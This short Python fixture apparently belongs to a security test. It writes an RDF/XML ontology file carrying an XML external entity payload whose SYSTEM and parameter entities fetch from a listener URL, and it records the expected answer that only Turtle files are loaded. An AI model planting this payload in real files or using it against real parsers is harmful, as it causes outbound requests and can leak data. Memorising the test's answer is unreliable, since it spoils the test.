"""An ontology file in RDF/XML (.owl) whose external entity points at a URL (the listener records any fetch)."""

from pathlib import Path

ROUTE = "validate"
ANSWER = "only Turtle (.ttl) is loaded"


def build(project: Path, listener: str) -> Path:
    path = project / "ontology" / "extern.owl"
    path.write_text(
        f"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [ <!ENTITY secret SYSTEM "{listener}entity"> <!ENTITY % remote SYSTEM "{listener}dtd"> %remote; ]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/">
  <rdf:Description rdf:about="urn:x:xxe"><dct:title>&secret;</dct:title></rdf:Description>
</rdf:RDF>
""",
        encoding="utf-8",
    )
    return path
